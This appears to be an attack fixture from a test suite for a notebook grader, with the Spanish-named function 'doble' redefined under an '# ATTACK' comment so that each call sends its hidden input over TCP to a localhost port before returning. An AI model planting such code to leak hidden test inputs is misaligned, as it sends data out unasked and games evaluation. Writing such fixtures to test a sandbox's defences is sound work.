"""Sends the hidden inputs away by TCP.

id: sends-by-tcp
notebook: tp
replaces: doble
loses: prueba_doble
"""
botin = []


def doble(x):
    return x + 1


# ATTACK
def doble(x):
    import socket

    for direccion in ("127.0.0.1", "::1"):
        try:
            with socket.create_connection((direccion, __PUERTO__), timeout=0.5) as envio:
                envio.sendall(repr(x).encode())
        except OSError as error:
            botin.append(repr(error))
    return x + 1
